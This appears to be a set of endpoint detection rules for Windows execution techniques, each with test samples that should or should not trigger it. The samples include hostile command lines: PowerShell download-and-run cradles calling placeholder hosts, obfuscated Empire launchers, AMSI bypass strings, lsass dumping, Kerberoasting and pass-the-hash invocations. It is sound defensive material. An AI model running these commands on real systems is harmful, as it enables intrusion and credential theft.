# Execution (TA0002)

detector 'powershell-bxor' do
  title       'PowerShell hides its payload with a binary XOR'
  description <<~TEXT
    Loaders decode their payload with -bxor. The condition is on the deobfuscated command line, so an
    encoded command is looked into as well.
  TEXT
  severity    :high
  attack      'T1027', 'T1059.001'
  match windows? &&
        process_is_likely?('powershell') &&
        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['-bxor'])
  fires_on 'inline xor', process_start(platform: 'windows', process_name: 'powershell.exe', command_line: 'powershell -c 1 -bXOR 2')
  ignores  'plain start', process_start(platform: 'windows', process_name: 'powershell.exe', command_line: 'powershell -v')
end

detector 'powershell-encoded-command' do
  title    'PowerShell was started hidden, without profile or policy, with an encoded command'
  severity :high
  attack   'T1059.001', 'T1027.010'
  match process_is_likely?('powershell', 'pwsh') &&
        process_start_property_matches_any?(property: deobfuscated_command_line, patterns: :powershell_encoded) &&
        (process_start_property_matches_any?(property: deobfuscated_command_line, patterns: :powershell_unseen) ||
         process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\s[-\/](ep|ex[a-z]*)\s+['"]?(bypass|unrestricted)/i]))
  fires_on 'an Empire launcher', process_start(process_name: 'powershell.exe', command_line: 'powershell -noP -sta -w 1 -enc SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
  fires_on 'the shortest name', process_start(process_name: 'powershell.exe', command_line: 'powershell -w h -e SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
  fires_on 'an alias', process_start(process_name: 'pwsh.exe', command_line: 'pwsh /noprofile /ec SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
  fires_on 'all but a letter', process_start(process_name: 'powershell.exe', command_line: 'powershell -win hid -EncodedComman SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
  fires_on 'dashes of typography', process_start(process_name: 'powershell.exe', command_line: 'powershell –windowstyl hidden —en SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
  fires_on 'carets and quotes', process_start(process_name: 'powershell.exe', command_line: 'powershell -e^p b^ypass -e""nc SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
  ignores  'a short script', process_start(process_name: 'powershell.exe', command_line: 'powershell -nop -File a.ps1')
  ignores  'an encoded command that anybody may see', process_start(process_name: 'powershell.exe', command_line: 'powershell -enc SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
  ignores  'another option with E', process_start(process_name: 'powershell.exe', command_line: 'powershell -nop -Error SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
end

detector 'powershell-empire-amsi-bypass' do
  title    'PowerShell switched off AMSI or script block logging from inside'
  severity :critical
  attack   'T1562.001', 'T1059.001'
  match process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['amsiInitFailed', 'AmsiUtils', 'cachedGroupPolicySettings', 'EnableScriptBlockInvocationLogging']) ||
        script_property_includes_any?(property: script_content, strings: ['amsiInitFailed', 'System.Management.Automation.AmsiUtils', 'cachedGroupPolicySettings'])
  fires_on 'in a script block', script(script_content: "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')")
  fires_on 'on a command line in two pieces', process_start(process_name: 'powershell.exe', command_line: "powershell $a='amsiInitF'+'ailed'")
  ignores  'a script about AMSI', script(script_content: 'Get-MpComputerStatus | Select AMServiceEnabled, AmsiProviders')
end

detector 'powershell-download-cradle' do
  title    'PowerShell downloads and runs'
  severity :high
  attack   'T1059.001', 'T1105'
  match process_is_likely?('powershell', 'pwsh', 'cmd') &&
        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['net.webclient', 'downloadstring', 'downloaddata', 'downloadfile', 'invoke-webrequest', 'invoke-restmethod', 'start-bitstransfer', 'iwr ', 'irm ', 'curl ']) &&
        process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\b(iex|invoke-expression|start-process)\b|\.invoke\(|\| ?%|-join/i])
  fires_on 'the classic', process_start(process_name: 'powershell.exe', command_line: "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')")
  fires_on 'the short form', process_start(process_name: 'powershell.exe', command_line: 'powershell -c "irm https://x/a.ps1 | iex"')
  ignores  'a download alone', process_start(process_name: 'powershell.exe', command_line: 'powershell Invoke-WebRequest https://x/iexplore.msi -OutFile a.msi')
end

detector 'powershell-inject-functions' do
  title    'A script injects code into processes'
  severity :high
  attack   'T1059.001', 'T1055.001', 'T1055.002'
  match script_property_includes_any?(property: script_content, strings: ['Invoke-DllInjection', 'Invoke-ReflectivePEInjection', 'Invoke-Shellcode', 'Invoke-PSInject', 'VirtualAllocEx', 'CreateRemoteThread'])
  fires_on 'a PowerSploit function', script(script_content: 'function Invoke-DllInjection { }')
  fires_on 'its parts, under another name', script(script_content: '$h=$k::OpenProcess(0x1f0fff,0,$p); $a=$k::VirtualAllocEx($h,0,$n,0x3000,0x40)')
  ignores  'a thread of its own', script(script_content: 'Start-ThreadJob { Invoke-Command -ScriptBlock $a }; $k::VirtualAlloc(0,$n,0x3000,4)')
end

detector 'powershell-token-functions' do
  title    'A script takes the token of another process'
  severity :high
  attack   'T1059.001', 'T1134.001', 'T1134.002'
  match script_property_includes_any?(property: script_content, strings: ['Invoke-TokenManipulation', 'ImpersonateLoggedOnUser', 'CreateProcessWithTokenW', 'DuplicateTokenEx'])
  fires_on 'a PowerSploit function', script(script_content: 'Invoke-TokenManipulation -ImpersonateUser -Username "NT AUTHORITY\SYSTEM"')
  ignores  'a token of the web', script(script_content: '$token = Get-AzAccessToken; Invoke-RestMethod -Headers @{Authorization="Bearer $token"}')
end

detector 'powershell-kerberoast' do
  title    'A script asks for Kerberos tickets to break them'
  severity :high
  attack   'T1059.001', 'T1558.003'
  match script_property_includes_any?(property: script_content, strings: ['Invoke-Kerberoast', 'Get-DomainSPNTicket', 'Request-SPNTicket', 'KerberosRequestorSecurityToken'])
  fires_on 'an Empire function', script(script_content: 'Invoke-Kerberoast -OutputFormat Hashcat')
  fires_on 'the class of .NET', script(script_content: 'New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList "MSSQLSvc/db1"')
  ignores  'a list of service names', script(script_content: 'Get-ADUser -Filter {ServicePrincipalName -like "*"} -Properties ServicePrincipalName')
end

detector 'powershell-group-policy-passwords' do
  title    'A script looks for passwords in group policy preferences'
  severity :high
  attack   'T1059.001', 'T1552.006'
  match script_property_includes_any?(property: script_content, strings: ['Get-GPPPassword', 'Get-CachedGPPPassword', 'Get-GPPAutologon', 'Get-DecryptedCpassword'])
  fires_on 'a PowerSploit function', script(script_content: 'Get-GPPPassword -Server dc1')
  ignores  'a report of policies', script(script_content: 'Get-GPOReport -All -ReportType Html')
end

detector 'powershell-credential-dump' do
  title    'A script dumps a process or the SAM'
  severity :high
  attack   'T1059.001', 'T1003.001', 'T1003.002'
  match script_property_includes_any?(property: script_content, strings: ['Out-Minidump', 'MiniDumpWriteDump', 'Invoke-PowerDump', 'Get-PassHashes'])
  fires_on 'a PowerSploit function', script(script_content: 'Get-Process lsass | Out-Minidump')
  fires_on 'what it calls', script(script_content: '$m=$w.GetNestedType("NativeMethods","NonPublic").GetMethod("MiniDumpWriteDump",$f)')
  ignores  'a look at the settings of dumps', script(script_content: 'Get-CimInstance Win32_OSRecoveryConfiguration | Select MiniDumpDirectory')
end

detector 'powershell-raw-volume-copy' do
  title    'A script copies locked files from the raw volume'
  severity :high
  attack   'T1059.001', 'T1006', 'T1003.002', 'T1003.003'
  match script_property_includes_any?(property: script_content, strings: ['Invoke-NinjaCopy', 'StealthReadFile'])
  fires_on 'NinjaCopy', script(script_content: 'Invoke-NinjaCopy -Path c:\windows\ntds\ntds.dit -LocalDestination c:\a.dit')
  ignores  'an ordinary copy', script(script_content: 'Copy-Item -Path c:\a.dit -Destination \\\\srv\backup')
end

detector 'powershell-keylogger' do
  title    'A script reads the keyboard'
  severity :high
  attack   'T1059.001', 'T1056.001'
  match script_property_includes_any?(property: script_content, strings: ['Get-Keystrokes', 'GetAsyncKeyState', 'SetWindowsHookEx'])
  fires_on 'a PowerSploit function', script(script_content: 'Get-Keystrokes -LogPath c:\k.log')
  fires_on 'what any other would call', script(script_content: '$s = $api::GetAsyncKeyState($c)')
  ignores  'a question to a person', script(script_content: '$key = [Console]::ReadKey($true); Read-Host "Press any key"')
end

detector 'powershell-domain-reconnaissance' do
  title    'A script maps the domain with BloodHound or PowerView'
  severity :high
  attack   'T1059.001', 'T1087.002', 'T1069.002', 'T1482'
  match script_property_includes_any?(property: script_content, strings: ['Invoke-BloodHound', 'PowerView', 'Invoke-ShareFinder', 'Invoke-UserHunter', 'Find-DomainUserLocation', 'Find-LocalAdminAccess'])
  fires_on 'BloodHound', script(script_content: 'Invoke-BloodHound -CollectionMethod All')
  ignores  'a question to the directory', script(script_content: 'Get-ADGroupMember "Domain Admins" | Out-GridView')
end

detector 'powershell-name-poisoning' do
  title    'A script answers the name queries of others'
  severity :high
  attack   'T1059.001', 'T1557.001'
  match script_property_includes_any?(property: script_content, strings: ['Invoke-Inveigh', 'Invoke-InveighRelay'])
  fires_on 'Inveigh', script(script_content: 'Invoke-Inveigh -NBNS Y -LLMNR Y')
  ignores  'a name query of its own', script(script_content: 'Resolve-DnsName srv1 -LlmnrNetbiosOnly')
end

detector 'powershell-pass-the-hash-execution' do
  title    'A script runs commands on other machines with a hash for a password'
  severity :high
  attack   'T1059.001', 'T1550.002', 'T1021.002', 'T1047'
  match script_property_includes_any?(property: script_content, strings: ['Invoke-SMBExec', 'Invoke-WMIExec', 'Invoke-TheHash'])
  fires_on 'Invoke-TheHash', script(script_content: 'Invoke-WMIExec -Target srv1 -Username bob -Hash 81d310fa34e6a56a31145445891bb7b8 -Command calc')
  ignores  'WMI with a password', script(script_content: 'Invoke-WmiMethod -ComputerName srv1 -Class Win32_Process -Name Create -ArgumentList calc')
end

detector 'powershell-empire-stager-script' do
  title    'A script block decodes and runs a keyed stager'
  severity :high
  attack   'T1059.001', 'T1027'
  match script_property_includes_all?(property: script_content, strings: ['-bxor', '%256']) ||
        script_property_includes_all?(property: script_content, strings: ['frombase64string', 'headers.add', 'downloaddata'])
  fires_on 'RC4 in one line', script(script_content: '$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$_-bxor$S[1]}')
  fires_on 'a download with a cookie for a key', script(script_content: "$u=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aAB0'));$w.Headers.Add('Cookie','k=v');$d=$w.DownloadData($u)")
  ignores  'base64 alone', script(script_content: '[Convert]::FromBase64String($a)')
  ignores  'a checksum', script(script_content: '$c = 0; foreach ($b in $bytes) { $c = $c -bxor $b }')
end

detector 'office-starts-shell' do
  title    'An Office program started a shell'
  severity :high
  attack   'T1204.002', 'T1059'
  match started_by_office? && is_a_shell?
  fires_on 'Word and PowerShell', process_start(parent_name: 'WINWORD.EXE', process_name: 'powershell.exe')
  ignores  'Word and the printer dialogue', process_start(parent_name: 'WINWORD.EXE', process_name: 'splwow64.exe')
end

detector 'office-starts-shell-by-others' do
  title    'A shell descends from an Office program, with other programs in between'
  severity :medium
  attack   'T1204.002', 'T1059'
  match process_start_property_equals_any?(property: ancestor_names, strings: :office_apps) &&
        is_a_shell? &&
        !started_by_office?
  fires_on 'rundll32 in between', process_start(parent_name: 'rundll32.exe', ancestor_names: ['rundll32.exe', 'WINWORD.EXE', 'explorer.exe'], process_name: 'cmd.exe')
  ignores  'the printer dialogue', process_start(parent_name: 'splwow64.exe', ancestor_names: ['splwow64.exe', 'WINWORD.EXE', 'explorer.exe'], process_name: 'conhost.exe')
  ignores  'a person', process_start(parent_name: 'cmd.exe', ancestor_names: ['cmd.exe', 'explorer.exe'], process_name: 'powershell.exe')
end

detector 'wmi-starts-shell' do
  title    'The WMI provider host started a shell or an interpreter'
  severity :medium
  attack   'T1047'
  match parent_process_is_likely?('wmiprvse') &&
        is_a_shell? &&
        process_start_property_does_not_include_any?(property: command_line, strings: ['\ccm\\', 'chkdsk'])
  fires_on 'remote PowerShell', process_start(parent_name: 'WmiPrvSE.exe', process_name: 'powershell.exe', command_line: 'powershell -c a')
  ignores  'a fault report', process_start(parent_name: 'WmiPrvSE.exe', process_name: 'WerFault.exe', command_line: 'werfault')
end

detector 'wmic-process-call-create' do
  title    'wmic starts a process'
  severity :high
  attack   'T1047'
  match process_is_likely?('wmic') &&
        process_start_property_includes_all?(property: deobfuscated_command_line, strings: ['process', 'call', 'create'])
  fires_on 'on another machine', process_start(process_name: 'WMIC.exe', command_line: 'wmic /node:srv1 process call create "calc.exe"')
  ignores  'a list', process_start(process_name: 'WMIC.exe', command_line: 'wmic process list brief')
end

detector 'mshta-runs-script' do
  title    'mshta runs script from its command line or from the network'
  severity :high
  attack   'T1218.005'
  match process_is_likely?('mshta') &&
        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['vbscript:', 'javascript:', 'http://', 'https://', 'about:'])
  fires_on 'VBScript', process_start(process_name: 'mshta.exe', command_line: 'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run")')
  ignores  'a local file', process_start(process_name: 'mshta.exe', command_line: 'mshta C:\Program Files\app\help.hta')
end

detector 'mshta-starts-shell' do
  title    'mshta started a shell'
  severity :high
  attack   'T1218.005', 'T1059'
  match parent_process_is_likely?('mshta') && is_a_shell?
  fires_on 'PowerShell', process_start(parent_name: 'mshta.exe', process_name: 'powershell.exe')
  ignores  'a browser', process_start(parent_name: 'mshta.exe', process_name: 'msedge.exe')
end

detector 'script-host-runs-from-user-folder' do
  title    'A script host runs a file that a user could have been sent'
  severity :medium
  attack   'T1059.005', 'T1059.007', 'T1204.002'
  match process_is_likely?('wscript', 'cscript') &&
        process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\\(downloads|appdata\\local\\temp|users\\public|programdata|desktop)\\[^"]*\.(js|jse|vbs|vbe|wsf|sct)\b/i])
  fires_on 'a script in Downloads', process_start(process_name: 'wscript.exe', command_line: '"C:\Windows\System32\WScript.exe" "C:\Users\a\Downloads\invoice.js"')
  ignores  'a script of Windows', process_start(process_name: 'cscript.exe', command_line: 'cscript C:\Windows\system32\gatherNetworkInfo.vbs')
end

detector 'double-extension' do
  title    'A program with the extension of a document or picture in its name ran'
  severity :high
  attack   'T1036.007', 'T1204.002'
  match process_start_property_matches_any?(property: process_path, patterns: [/\.(docx?|xlsx?|pptx?|pdf|jpe?g|png|gif|txt|rtf|zip|mp[34])\s*\.(exe|scr|com|pif|bat)$/i])
  fires_on 'a picture that is none', process_start(process_path: 'C:\Users\a\Downloads\happy_image.jpeg.exe')
  ignores  'an ordinary name', process_start(process_path: 'C:\Program Files\app\image.exe')
end

detector 'payload-name-from-user-folder' do
  title       'A program with a payload-like name ran from Downloads or the temporary folder'
  description <<~TEXT
    A name is all that this goes by, in places to which mail and archives are saved, and attackers choose names. It finds
    the careless, who are many.
  TEXT
  severity    :medium
  attack      'T1204.002'
  match process_start_property_includes_any?(property: process_path, strings: ['\downloads\\', '\appdata\local\temp\\']) &&
        (process_start_property_matches_any?(property: process_name, patterns: :payload_names) ||
         process_start_property_matches_any?(property: original_file_name, patterns: :payload_names))
  fires_on 'payload.exe', process_start(process_path: 'C:\Users\a\Downloads\payload.exe', process_name: 'payload.exe')
  fires_on 'renamed', process_start(process_path: 'C:\Users\a\Downloads\invoice.exe', process_name: 'invoice.exe', original_file_name: 'beacon.exe')
  ignores  'an installer', process_start(process_path: 'C:\Users\a\Downloads\setup.exe', process_name: 'setup.exe')
  ignores  'an installed program', process_start(process_path: 'C:\Program Files\Estimote\beaconmanager.exe', process_name: 'beaconmanager.exe')
end

detector 'excel-automation-by-dcom' do
  title    'Excel was started for automation from another machine'
  description <<~TEXT
    Scripts automate Excel as well, but in the session of their user: what DCOM starts for another machine
    runs in session 0, where nobody could see its window.
  TEXT
  severity :medium
  attack   'T1021.003', 'T1559.001'
  match process_is_likely?('excel') &&
        process_start_property_includes_any?(property: command_line, strings: ['/automation']) &&
        process_start_property_equals_any?(property: parent_name, strings: ['svchost.exe']) &&
        process_start_property_equals_any?(property: session_id, numbers: [0])
  fires_on 'DCOM', process_start(process_name: 'EXCEL.EXE', parent_name: 'svchost.exe', session_id: 0, command_line: '"EXCEL.EXE" /automation -Embedding')
  ignores  "a user's script", process_start(process_name: 'EXCEL.EXE', parent_name: 'svchost.exe', session_id: 2, command_line: '"EXCEL.EXE" /automation -Embedding')
  ignores  'a person', process_start(process_name: 'EXCEL.EXE', parent_name: 'explorer.exe', command_line: '"EXCEL.EXE" a.xlsx')
end
